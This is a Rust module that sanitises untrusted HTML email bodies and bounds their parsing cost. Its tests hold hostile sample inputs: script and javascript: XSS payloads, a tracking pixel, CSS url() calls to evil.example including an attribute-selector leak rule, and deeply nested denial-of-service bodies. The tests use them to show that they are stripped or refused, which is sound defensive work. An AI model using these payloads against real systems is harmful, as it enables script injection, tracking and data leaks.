//! A message's HTML body made safe to show, at a cost bounded by its size.
//!
//! A sender controls the HTML, and a browser parser's tree building is not linear in every
//! input: html5ever (under ammonia) walks the stack of open elements for many start tags, so
//! 100,000 nested `<div>`s (500 KB) took ~27 s per view, and 10,000 nested `<table>`s logged a
//! warning each. Five rules bound it:
//!
//! 1. **Size**: a body over [`MAX_HTML_BYTES`] is not parsed as HTML (Gmail clips mail at
//!    102 KB; mail clients' HTML rarely passes a few hundred), and one whose sanitised form
//!    grows past [`MAX_SHOWN_BYTES`] — misnested formatting makes the parser repeat elements,
//!    ~5 times the input — is shown as text, so no page is heavy for the reader's browser.
//! 2. **Depth**: before sanitising, one pass of html5ever's *tokenizer* (linear: no tree, no
//!    stack walks) estimates how deeply elements nest. Its estimate never undercounts what
//!    the tree builder keeps open for nesting that matters, so a body that passes costs the
//!    tree builder at most [`MAX_NESTING`] steps per tag. A body that nests deeper is shown
//!    as its text (from the same pass), with a line saying why.
//! 3. **Threads**: the work runs on the blocking pool, at most one job per core at a time
//!    (`renderers`), so the async threads — `/healthz`, every other tenant's requests —
//!    never wait for it, and a burst of such views queues instead of starving the machine.
//! 4. **Once**: a rendered body is kept in memory (never on disk) by its link, up to
//!    [`CACHE_BYTES`], so viewing a message again costs no parsing; the worst body a sender
//!    can build costs one render per link. Each node keeps its own, and that is safe with
//!    several: a finalised message's body never changes, and who may read it (recall,
//!    expiry, the session) is decided from the database on every request before the cache
//!    is asked. Another node renders the body once more — the cost, not a risk.
//! 5. **Style rules**: inlining a body's `<style>` rules (below) matches every selector
//!    against every element, and a descendant selector (`p div span`) walks up the element's
//!    ancestors. Kept selectors are plain (no `:has()`, `:not()`, `:nth-child()` — no
//!    function), so matching one compound selector (`div`, `p.lead`) against one element
//!    costs at most its depth. The same tokenizer pass collects the `<style>` text (at most
//!    [`MAX_STYLE_BYTES`]) and sums every element's depth. A rule weighs its compound
//!    selectors plus its declarations (each is applied to every element the rule matches);
//!    rules are kept up to a weight of [`MAX_RULE_WEIGHT`], less on a large or deep body, so
//!    that weight × summed depth stays under [`MAX_MATCH_STEPS`] (the first rules are kept). The inlined HTML may grow to
//!    [`MAX_SHOWN_BYTES`], past which the body is shown without its `<style>` rules. The
//!    inliner parses the body a second time (after the depth check, only when a rule
//!    survives) and its output is scanned for depth again.
//!
//! **Formatting.** The styling people use in mail is kept, and only that: every `style`
//! attribute passes the allow-list of properties and values in `css.rs` (read by Servo's CSS
//! parser, so escapes and comments cannot hide a `url(` from it), and the legacy attributes
//! mail clients still write (`bgcolor`, `align`, `valign`, `width`, `cellpadding`, `<font
//! color face size>` …, see [`LEGACY_ATTRIBUTES`]) are kept when their values are plain. The
//! page admits the result with `style-src-attr 'unsafe-inline'` and no `<style>` element
//! (`mod.rs`, `docs/message-center.md`). Nothing a message draws reaches outside its area
//! twice over: the allow-list refuses what could move content out (`position` but
//! `static`/`relative`, offsets, `z-index`, transforms, negative lengths), and the area
//! clips whatever would still overflow (`contain: paint; overflow: auto` in `center.css`).
//!
//! **`<style>` blocks** (newsletters style this way) never reach the browser: their rules are
//! *inlined* into the elements' `style` attributes on the server (`css-inline`, with no way
//! to fetch anything: built without its `http` and `file` features, remote style sheets
//! off), after the allow-list has kept only plain selectors and allowed declarations, and
//! the attributes then pass the allow-list again like any other. At-rules (`@media`,
//! `@import`, `@font-face`) are dropped: nothing in them is inlined. Selectors are matched on
//! the server, so attribute selectors cannot tell anyone what the page holds.
//!
//! `bench/src/center.rs` measures the worst bodies found (server time per view, and
//! `/healthz` while they are viewed); `docs/SECURITY.md` records the numbers.

use std::cell::{Cell, RefCell};
use std::collections::HashMap;
use std::sync::{Arc, OnceLock};

use html5ever::LocalName;
use html5ever::tendril::StrTendril;
use html5ever::tokenizer::states::RawKind;
use html5ever::tokenizer::{
    BufferQueue, TagKind, Token, TokenSink, TokenSinkResult, Tokenizer, TokenizerOpts,
};
use tokio::sync::Semaphore;

use super::css;
use super::language::Phrase;

/// The largest HTML body shown as HTML (larger ones are shown as text).
pub(super) const MAX_HTML_BYTES: usize = 1 << 20;
/// The largest sanitised HTML shown (a body that grows past it is shown as text).
pub(super) const MAX_SHOWN_BYTES: usize = 2 << 20;
/// The deepest element nesting shown as HTML (mail clients rarely pass 40).
pub(super) const MAX_NESTING: usize = 256;
/// The most text shown for a body that cannot be shown as HTML.
const MAX_TEXT_CHARS: usize = 1 << 20;
/// The most memory rendered bodies are kept in.
pub(super) const CACHE_BYTES: u64 = 64 << 20;
/// The most `<style>` text read from a body (newsletters' run to a few tens of KB); the rest
/// is ignored.
pub(super) const MAX_STYLE_BYTES: usize = 128 << 10;
/// The most weight of a body's `<style>` rules inlined: each rule weighs its compound
/// selectors (`p.lead`, the two of `table td`) plus its declarations.
pub(super) const MAX_RULE_WEIGHT: usize = 4000;
/// The most steps inlining may take: rule weight × the sum of every element's depth. A body
/// with more, or more deeply nested, elements keeps fewer of its rules (the first ones).
pub(super) const MAX_MATCH_STEPS: usize = 25_000_000;

/// What the read page shows of an HTML body.
#[derive(Debug, PartialEq, Eq)]
pub(crate) enum SafeBody {
    /// Sanitised HTML, ready to embed.
    Html(String),
    /// The body's text only, and why its formatting is not shown.
    Text { text: String, why: Phrase },
}

/// How many bodies are rendered at once: one per core.
fn renderers() -> &'static Semaphore {
    static RENDERERS: OnceLock<Semaphore> = OnceLock::new();
    RENDERERS.get_or_init(|| {
        Semaphore::new(std::thread::available_parallelism().map_or(2, std::num::NonZero::get))
    })
}

/// Weighs a rendered body by its size.
#[derive(Clone)]
struct BySize;

impl quick_cache::Weighter<String, Arc<SafeBody>> for BySize {
    fn weight(&self, link: &String, body: &Arc<SafeBody>) -> u64 {
        let shown = match &**body {
            SafeBody::Html(h) => h.len(),
            SafeBody::Text { text, .. } => text.len(),
        };
        (link.len() + shown + 64) as u64
    }
}

type Rendered = quick_cache::sync::Cache<String, Arc<SafeBody>, BySize>;

/// Bodies rendered already, by link.
fn rendered() -> &'static Rendered {
    static RENDERED: OnceLock<Rendered> = OnceLock::new();
    RENDERED.get_or_init(|| Rendered::with_weighter(4096, CACHE_BYTES, BySize))
}

/// The HTML body of the message behind `link` made safe to show (see [`render`]): rendered
/// once, off the async threads, and kept for later views (`images` — the inline images'
/// URLs — depend on the link, which is why the link is the key).
pub(crate) async fn safe_body(
    link: &str,
    html: String,
    images: HashMap<String, String>,
) -> Arc<SafeBody> {
    if let Some(body) = rendered().get(link) {
        return body;
    }
    let permit = renderers().acquire().await.expect("the renderers' semaphore is never closed");
    // Another view of the link may have rendered it while this one waited.
    if let Some(body) = rendered().get(link) {
        return body;
    }
    let body = match tokio::task::spawn_blocking(move || render(&html, images)).await {
        Ok(body) => Arc::new(body),
        Err(e) => {
            tracing::error!(error = %e, "rendering a message body failed");
            return Arc::new(SafeBody::Text { text: String::new(), why: CANNOT_SHOW });
        }
    };
    drop(permit);
    rendered().insert(link.to_string(), body.clone());
    body
}

const TOO_LARGE: Phrase = Phrase("body-too-large");
const TOO_DEEP: Phrase = Phrase("body-too-deep");
const CANNOT_SHOW: Phrase = Phrase("body-cannot-show");

/// `html` sanitised, or its text when it is too large or nests too deeply (see the module
/// doc). Time and memory are linear in `html.len()`.
pub(super) fn render(html: &str, images: HashMap<String, String>) -> SafeBody {
    if html.len() > MAX_HTML_BYTES {
        return SafeBody::Text { text: scan(html).text, why: TOO_LARGE };
    }
    let scanned = scan(html);
    if scanned.deepest > MAX_NESTING {
        return SafeBody::Text { text: scanned.text, why: TOO_DEEP };
    }
    let inlined = inline_styles(html, &scanned);
    let clean = sanitise(inlined.as_deref().unwrap_or(html), images);
    if clean.len() > MAX_SHOWN_BYTES {
        return SafeBody::Text { text: scanned.text, why: TOO_LARGE };
    }
    SafeBody::Html(clean)
}

/// `html` with the rules of its `<style>` blocks (what [`css::style_sheet`] keeps of them,
/// within the bounds of the module doc) written into its elements' `style` attributes; `None`
/// when it has none to inline, or inlining would pass the bounds.
fn inline_styles(html: &str, scanned: &Scanned) -> Option<String> {
    if scanned.styles.trim().is_empty() {
        return None;
    }
    let most = MAX_RULE_WEIGHT.min(MAX_MATCH_STEPS / scanned.depths.max(1));
    let (rules, weight) = css::style_sheet(&scanned.styles, most);
    if weight == 0 {
        return None;
    }
    let inliner = css_inline::CSSInliner::options()
        .inline_style_tags(false)
        .keep_style_tags(false)
        .keep_link_tags(false)
        .keep_at_rules(false)
        .load_remote_stylesheets(false)
        .extra_css(Some(rules.into()))
        .build();
    let mut out = Capped(Vec::new());
    inliner.inline_to(html, &mut out).ok()?;
    let inlined = String::from_utf8(out.0).ok()?;
    (scan(&inlined).deepest <= MAX_NESTING).then_some(inlined)
}

/// A buffer that refuses to grow past [`MAX_SHOWN_BYTES`].
struct Capped(Vec<u8>);

impl std::io::Write for Capped {
    fn write(&mut self, buf: &[u8]) -> std::io::Result<usize> {
        if self.0.len() + buf.len() > MAX_SHOWN_BYTES {
            return Err(std::io::Error::other("the inlined body is too large"));
        }
        self.0.extend_from_slice(buf);
        Ok(buf.len())
    }
    fn flush(&mut self) -> std::io::Result<()> {
        Ok(())
    }
}

/// The presentational attributes mail clients write, by element; kept when their values are
/// plain ([`legacy_value`]). Never `background` (it takes a URL).
const LEGACY_ATTRIBUTES: [(&str, &[&str]); 20] = [
    ("table", &["align", "bgcolor", "border", "cellpadding", "cellspacing", "width", "height"]),
    ("tr", &["bgcolor", "valign", "height"]),
    ("td", &["bgcolor", "valign", "width", "height", "nowrap"]),
    ("th", &["bgcolor", "valign", "width", "height", "nowrap"]),
    ("thead", &["valign"]),
    ("tbody", &["valign"]),
    ("tfoot", &["valign"]),
    ("col", &["valign", "width"]),
    ("colgroup", &["valign", "width"]),
    ("caption", &["align"]),
    ("p", &["align"]),
    ("div", &["align"]),
    ("h1", &["align"]),
    ("h2", &["align"]),
    ("h3", &["align"]),
    ("img", &["border"]),
    ("font", &["color", "face", "size"]),
    ("ul", &["type"]),
    ("ol", &["type"]),
    ("li", &["type", "value"]),
];

/// Whether a legacy attribute's value is plain: a colour, a number or percentage, a keyword,
/// font names.
fn legacy_value(attribute: &str, value: &str) -> bool {
    let only =
        |most: usize, ok: &dyn Fn(char) -> bool| value.len() <= most && value.chars().all(ok);
    match attribute {
        "color" | "bgcolor" => only(32, &|c| c.is_ascii_alphanumeric() || c == '#'),
        "face" => only(200, &|c| c.is_alphanumeric() || " ,-_'\"".contains(c)),
        "width" | "height" | "border" | "cellpadding" | "cellspacing" | "size" | "value" => {
            only(16, &|c| c.is_ascii_digit() || "%.+-".contains(c))
        }
        _ => only(16, &|c| c.is_ascii_alphanumeric()),
    }
}

/// The message's HTML made safe to show: ammonia's allow-list (no script, no event handlers,
/// nothing of the head shown), `style` attributes through the CSS allow-list (`css.rs`), the legacy formatting attributes
/// with plain values, links opened without a referrer, and no remote content — an image only
/// from the message itself: `cid:` sources found in `images` (Content-ID → URL) point there,
/// every other source is dropped. Call it through [`render`], which bounds its cost.
fn sanitise(html: &str, images: HashMap<String, String>) -> String {
    let mut builder = ammonia::Builder::default();
    builder.add_tags(["font"]).add_generic_attributes(["style", "dir"]);
    // A mail client shows the body: the head's <title> names a window, its text is no line of
    // the message (ammonia drops <script> and <style> with their text already).
    builder.add_clean_content_tags(["title"]);
    for (tag, attributes) in LEGACY_ATTRIBUTES {
        builder.add_tag_attributes(tag, attributes.iter().copied());
    }
    for tag in ["h4", "h5", "h6"] {
        builder.add_tag_attributes(tag, ["align"]);
    }
    builder
        .link_rel(Some("noopener noreferrer nofollow"))
        .url_schemes(["https", "http", "mailto", "cid"].into_iter().collect())
        .attribute_filter(move |element, attribute, value| match (element, attribute) {
            ("img", "src") => {
                let id = value.strip_prefix("cid:")?.trim_start_matches('<').trim_end_matches('>');
                images.get(id).map(|url| url.clone().into())
            }
            (_, "style") => {
                let kept = css::style_attribute(value);
                (!kept.is_empty()).then(|| kept.into())
            }
            (_, "dir") => ["ltr", "rtl", "auto"]
                .contains(&value.to_ascii_lowercase().as_str())
                .then(|| value.into()),
            (element, attribute)
                if LEGACY_ATTRIBUTES
                    .iter()
                    .any(|(t, a)| *t == element && a.contains(&attribute))
                    || attribute == "align" =>
            {
                legacy_value(attribute, value).then(|| value.into())
            }
            _ => Some(value.into()),
        })
        .clean(html)
        .to_string()
}

/// What one tokenizer pass learns of a body.
struct Scanned {
    /// The deepest nesting of open elements seen (an estimate; see [`Nesting`]).
    deepest: usize,
    /// The text a reader would see, without markup, scripts or styles (capped).
    text: String,
    /// The sum of every start tag's depth: the ancestors matching a selector may walk.
    depths: usize,
    /// The text of its `<style>` blocks, up to [`MAX_STYLE_BYTES`].
    styles: String,
}

fn scan(html: &str) -> Scanned {
    let sink = Nesting::default();
    let tokenizer = Tokenizer::new(sink, TokenizerOpts::default());
    let input = BufferQueue::default();
    input.push_back(StrTendril::from_slice(html));
    let _ = tokenizer.feed(&input);
    tokenizer.end();
    let sink = tokenizer.sink;
    Scanned {
        deepest: sink.deepest.get(),
        text: sink.text.into_inner(),
        depths: sink.depths.get(),
        styles: sink.styles.into_inner(),
    }
}

/// Elements that never hold content (no end tag).
const VOID: [&str; 15] = [
    "area", "base", "br", "col", "embed", "hr", "img", "input", "keygen", "link", "meta", "param",
    "source", "track", "wbr",
];
/// Block elements whose start tag closes an open `<p>` (`<p>a<div>` is not nesting).
const CLOSES_P: [&str; 25] = [
    "address",
    "article",
    "aside",
    "blockquote",
    "center",
    "details",
    "dir",
    "div",
    "dl",
    "fieldset",
    "figure",
    "footer",
    "form",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "header",
    "hr",
    "main",
    "nav",
    "ol",
    "ul",
];
/// How far down the stack a start tag looks for the element it closes.
const CLOSE_SEARCH: usize = 64;

/// The open elements a start tag closes first, as the tree builder's implied end tags do:
/// the nearest one named in the first list, unless one in the second lies above it. So lists,
/// table rows and paragraphs whose end tags are left out (`<li>a<li>b`) do not count as
/// nesting.
fn implied_close(name: &str) -> Option<(&'static [&'static str], &'static [&'static str])> {
    const P_SCOPE: &[&str] = &["table", "td", "th", "caption", "button", "object", "template"];
    Some(match name {
        "li" => (&["li"], &["ul", "ol"]),
        "dt" | "dd" => (&["dt", "dd"], &["dl"]),
        "tr" => (&["tr"], &["table", "thead", "tbody", "tfoot"]),
        "td" | "th" => (&["td", "th"], &["tr", "table"]),
        "thead" | "tbody" | "tfoot" => (&["thead", "tbody", "tfoot"], &["table"]),
        "option" => (&["option"], &["select", "datalist"]),
        "p" => (&["p"], P_SCOPE),
        n if CLOSES_P.contains(&n) => (&["p"], P_SCOPE),
        _ => return None,
    })
}
/// Elements whose content the tree builder reads as raw text (it tells the tokenizer so).
const RAW_TEXT: [(&str, RawKind); 9] = [
    ("title", RawKind::Rcdata),
    ("textarea", RawKind::Rcdata),
    ("style", RawKind::Rawtext),
    ("xmp", RawKind::Rawtext),
    ("iframe", RawKind::Rawtext),
    ("noembed", RawKind::Rawtext),
    ("noframes", RawKind::Rawtext),
    ("noscript", RawKind::Rawtext),
    ("script", RawKind::ScriptData),
];

/// A token sink that keeps a stack of open element names, as a tree builder would in its
/// simplest form: a start tag opens (void and self-closed ones excepted; some first close an
/// element, see [`implied_close`]), an end tag closes up to its element when one is open and
/// is ignored otherwise. Every step is O(1) amortised, or O([`CLOSE_SEARCH`]): each name is
/// pushed once and popped once, and `open` counts names so an end tag never searches.
#[derive(Default)]
struct Nesting {
    stack: RefCell<Vec<LocalName>>,
    open: RefCell<HashMap<LocalName, usize>>,
    deepest: Cell<usize>,
    /// Inside raw text (`<script>`, `<style>` …): its characters are not text a reader sees.
    raw: Cell<bool>,
    /// Inside a `<style>`: its characters are style sheet text.
    in_style: Cell<bool>,
    text: RefCell<String>,
    depths: Cell<usize>,
    styles: RefCell<String>,
}

impl Nesting {
    fn pop(&self) -> Option<LocalName> {
        let name = self.stack.borrow_mut().pop()?;
        if let Some(n) = self.open.borrow_mut().get_mut(&name) {
            *n -= 1;
        }
        Some(name)
    }

    /// Closes the nearest open element named in `kinds`, and all above it, unless an element
    /// in `boundaries` lies above it (looking at most [`CLOSE_SEARCH`] elements down).
    fn close_nearest(&self, kinds: &[&str], boundaries: &[&str]) {
        let found = {
            let stack = self.stack.borrow();
            stack
                .iter()
                .rev()
                .take(CLOSE_SEARCH)
                .position(|n| kinds.contains(&&**n) || boundaries.contains(&&**n))
                .filter(|i| kinds.contains(&&*stack[stack.len() - 1 - i]))
        };
        for _ in 0..found.map_or(0, |i| i + 1) {
            self.pop();
        }
    }

    fn push_text(&self, s: &str) {
        let mut text = self.text.borrow_mut();
        if !self.raw.get() && text.len() < MAX_TEXT_CHARS {
            let room = MAX_TEXT_CHARS - text.len();
            let end = s.char_indices().map(|(i, _)| i).find(|i| *i >= room).unwrap_or(s.len());
            text.push_str(&s[..end]);
        }
    }
}

impl TokenSink for Nesting {
    type Handle = ();

    fn process_token(&self, token: Token, _line: u64) -> TokenSinkResult<()> {
        let Token::TagToken(tag) = token else {
            if let Token::CharacterTokens(s) = token {
                if self.in_style.get() {
                    let mut styles = self.styles.borrow_mut();
                    if styles.len() + s.len() <= MAX_STYLE_BYTES {
                        styles.push_str(&s);
                    }
                }
                self.push_text(&s);
            }
            return TokenSinkResult::Continue;
        };
        let name: &str = &tag.name;
        match tag.kind {
            TagKind::StartTag => {
                if matches!(name, "br" | "p" | "div" | "tr" | "li") {
                    self.push_text("\n");
                }
                if VOID.contains(&name) || tag.self_closing {
                    let depth = self.stack.borrow().len() + 1;
                    self.depths.set(self.depths.get().saturating_add(depth));
                    return TokenSinkResult::Continue;
                }
                if let Some((kinds, boundaries)) = implied_close(name)
                    && kinds.iter().any(|k| {
                        self.open.borrow().get(&LocalName::from(*k)).is_some_and(|n| *n > 0)
                    })
                {
                    self.close_nearest(kinds, boundaries);
                }
                *self.open.borrow_mut().entry(tag.name.clone()).or_default() += 1;
                self.stack.borrow_mut().push(tag.name.clone());
                let depth = self.stack.borrow().len();
                self.deepest.set(self.deepest.get().max(depth));
                self.depths.set(self.depths.get().saturating_add(depth));
                if let Some((_, kind)) = RAW_TEXT.iter().find(|(n, _)| *n == &*tag.name) {
                    self.raw.set(true);
                    if name == "style" {
                        // One block's text is not glued to the next one's.
                        self.styles.borrow_mut().push('\n');
                        self.in_style.set(true);
                    }
                    return TokenSinkResult::RawData(*kind);
                }
            }
            TagKind::EndTag => {
                self.raw.set(false);
                self.in_style.set(false);
                let is_open = self.open.borrow().get(&tag.name).is_some_and(|n| *n > 0);
                if is_open {
                    while let Some(popped) = self.pop() {
                        if &*popped == name {
                            break;
                        }
                    }
                }
            }
        }
        TokenSinkResult::Continue
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn html(out: SafeBody) -> String {
        match out {
            SafeBody::Html(h) => h,
            other => panic!("expected HTML, got {other:?}"),
        }
    }

    #[test]
    fn sanitising_removes_script_and_remote_content() {
        let images = HashMap::from([("logo@acme".to_string(), "/c/read/t/inline/2".to_string())]);
        let out = html(render(
            r#"<p onclick="x()">Hi<script>alert(1)</script><img src="https://track.example/p.gif"><img src="cid:logo@acme"><img src="cid:unknown"><a href="javascript:alert(1)">j</a><iframe src="https://x"></iframe></p>"#,
            images,
        ));
        assert!(!out.contains("script") && !out.contains("onclick") && !out.contains("iframe"));
        assert!(!out.contains("track.example"), "{out}");
        assert!(out.contains(r#"<img src="/c/read/t/inline/2">"#), "{out}");
        assert!(!out.contains("cid:"), "an unknown cid is dropped: {out}");
        assert!(!out.contains("javascript:"), "{out}");
    }

    #[test]
    fn ordinary_mail_html_is_shown_as_html() {
        // Lists, tables and paragraphs whose end tags are left out do not count as nesting.
        let mut body = String::from("<html><body><table><tbody>");
        for i in 0..2000 {
            body.push_str(&format!("<tr><td>row {i}<td><p>a<p>b<ul><li>x<li>y</ul>"));
        }
        body.push_str("</table><div><div><blockquote>quoted</blockquote></div></div>");
        let out = html(render(&body, HashMap::new()));
        assert!(out.contains("row 1999") && out.contains("quoted"), "{}", &out[..200]);
    }

    #[test]
    fn deep_nesting_is_shown_as_text_without_parsing_it_as_html() {
        let cases = [("<div>", 100_000), ("<table><tr><td>", 50_000), ("<b id=x>", 100_000)];
        for (open, depth) in cases {
            let close = "";
            let body = format!("{}deep text<script>evil()</script>{}", open.repeat(depth), close);
            let started = std::time::Instant::now();
            let SafeBody::Text { text, why } = render(&body, HashMap::new()) else {
                panic!("{open} x {depth} was rendered as HTML");
            };
            assert_eq!(why, TOO_DEEP);
            assert!(text.contains("deep text") && !text.contains("evil"), "{text}");
            // Not a timing assertion on the product: a guard against the quadratic parse
            // (27 s before) sneaking back in, with two orders of magnitude of headroom.
            assert!(started.elapsed().as_secs() < 5, "{open}: {:?}", started.elapsed());
        }
    }

    #[test]
    fn nesting_up_to_the_limit_is_html_and_one_more_is_not() {
        let at = |n: usize| format!("{}x{}", "<div>".repeat(n), "</div>".repeat(n));
        assert!(matches!(render(&at(MAX_NESTING), HashMap::new()), SafeBody::Html(_)));
        assert!(matches!(render(&at(MAX_NESTING + 1), HashMap::new()), SafeBody::Text { .. }));
    }

    #[test]
    fn a_body_the_parser_multiplies_is_shown_as_text() {
        // Each paragraph's formatting is reopened in the next: ~5 times the input.
        let unit = "<p><b><i><u><s><a href=\"#\">x</p>";
        let body = unit.repeat(MAX_HTML_BYTES / unit.len());
        let SafeBody::Text { text, why } = render(&body, HashMap::new()) else {
            panic!("a multiplied body was shown as HTML");
        };
        assert_eq!(why, TOO_LARGE);
        assert!(text.starts_with("\nx"), "{}", &text[..20]);
    }

    #[test]
    fn closing_tags_bring_the_depth_back() {
        let body = "<div><span>x</span></div>".repeat(10_000);
        assert!(matches!(render(&body, HashMap::new()), SafeBody::Html(_)));
    }

    #[test]
    fn an_oversized_body_is_shown_as_text() {
        let body = format!("<p>{}</p>", "a".repeat(MAX_HTML_BYTES));
        let SafeBody::Text { text, why } = render(&body, HashMap::new()) else {
            panic!("an oversized body was rendered as HTML");
        };
        assert_eq!(why, TOO_LARGE);
        assert!(text.len() <= MAX_TEXT_CHARS + 4, "{}", text.len());
    }

    #[test]
    fn script_and_style_are_not_part_of_the_text() {
        let s = scan("<style>p{color:red}</style><p>Hello</p><script>if (a<b) x()</script>");
        assert_eq!(s.text.trim(), "Hello");
    }

    #[test]
    fn the_head_shows_nothing() {
        // A mail client shows a document's body: its <title> names the window, it is no line
        // of the message, and a <style> block's rules are applied, never shown.
        let out = html(render(
            "<html><head><meta charset=utf-8><title>Winter news</title>\
             <style>p{color:red}</style></head><body><p>Hello</p></body></html>",
            HashMap::new(),
        ));
        assert_eq!(out, r#"<p style="color:red">Hello</p>"#);
    }

    #[test]
    fn formatting_is_kept_through_the_css_allow_list() {
        let out = html(render(
            r##"<p style="color:#c00000; position:fixed; background:url(https://evil.example/a)">red</p><table bgcolor="#eeeeee" border="1" cellpadding="6" cellspacing="0" width="100%" background="https://evil.example/bg.png"><tr><td align="center" valign="top" bgcolor="javascript:x" style="padding:4px; margin-left:-999px">c</td></tr></table><font color="navy" face="Georgia, 'Times New Roman'" size="+1">f</font><div dir="rtl" style="z-index:9">d</div>"##,
            HashMap::new(),
        ));
        assert!(out.contains(r#"<p style="color:#c00000">"#), "{out}");
        assert!(
            out.contains(r##"<table bgcolor="#eeeeee" border="1" cellpadding="6" cellspacing="0" width="100%">"##),
            "{out}"
        );
        assert!(out.contains(r#"<td align="center" valign="top" style="padding:4px">"#), "{out}");
        assert!(
            out.contains(r#"<font color="navy" face="Georgia, 'Times New Roman'" size="+1">"#),
            "{out}"
        );
        assert!(out.contains(r#"<div dir="rtl">"#), "{out}");
        assert!(!out.contains("evil") && !out.contains("fixed") && !out.contains("-999"), "{out}");
    }

    #[test]
    fn style_rules_are_inlined_through_the_allow_list_and_the_block_removed() {
        let body = r#"<html><head><style>
            @import url(https://evil.example/a.css);
            @font-face { font-family: X; src: url(https://evil.example/x.woff) }
            p.lead { color: #336699; font-size: 20px; background-image: url(https://evil.example/b) }
            td { border: 1px solid #999; position: absolute }
            input[value^="a"] { background: url(https://evil.example/leak?a) }
        </style></head><body><p class="lead" style="font-size:14px">Hello</p>
        <table><tr><td>cell</td></tr></table></body></html>"#;
        let out = html(render(body, HashMap::new()));
        assert!(out.contains("<p style=\"color:#336699;font-size:14px\">Hello</p>"), "{out}");
        assert!(out.contains("<td style=\"border:1px solid #999\">cell</td>"), "{out}");
        assert!(
            !out.contains("<style") && !out.contains("evil") && !out.contains("class"),
            "{out}"
        );
    }

    #[test]
    fn the_worst_style_rules_stay_within_the_match_budget() {
        // Many selectors × many elements, each selector a descendant chain that walks up.
        let mut css = String::new();
        for i in 0..3000 {
            css.push_str(&format!("div div div span.c{i}, div > div span{{color:#{:06x}}}\n", i));
        }
        let body = format!(
            "<style>{css}</style>{}",
            "<div><div><div><span class=c1>x</span></div></div></div>".repeat(12_000)
        );
        assert!(body.len() <= MAX_HTML_BYTES, "{}", body.len());
        let started = std::time::Instant::now();
        let out = render(&body, HashMap::new());
        // Not a timing assertion on the product: a guard against unbounded matching.
        assert!(started.elapsed().as_secs() < 20, "{:?}", started.elapsed());
        assert!(matches!(out, SafeBody::Html(_)));
    }
}
